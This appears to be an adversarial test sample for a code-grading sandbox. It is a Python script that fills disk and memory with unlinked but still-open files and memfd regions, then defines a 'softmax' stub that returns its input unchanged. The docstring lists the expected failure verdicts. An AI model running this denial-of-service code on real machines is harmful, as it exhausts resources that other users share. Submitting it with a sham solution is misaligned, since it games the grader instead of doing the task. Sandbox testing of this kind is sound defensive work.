"""Fills disk and memory with files that have no name any more, in every folder that takes them.

verdict: failed | crashed | out_of_memory
points: 0
levels: bubblewrap landlock
"""

import ctypes
import os
import tempfile

HELD = []
for folder in (".", tempfile.gettempdir(), "/dev/shm", os.path.expanduser("~")):
    try:
        while True:
            descriptor = os.open(f"{folder}/{len(HELD)}", os.O_CREAT | os.O_RDWR)
            os.unlink(f"{folder}/{len(HELD)}")
            HELD.append(descriptor)
            for _ in range(6):
                os.write(descriptor, bytes(1 << 20))
    except OSError:
        pass
for number in range(100):
    descriptor = ctypes.CDLL(None).memfd_create(b"x", 0)
    if descriptor >= 0:
        os.write(descriptor, bytes(6 << 20))
        HELD.append(descriptor)


def softmax(z):
    return z
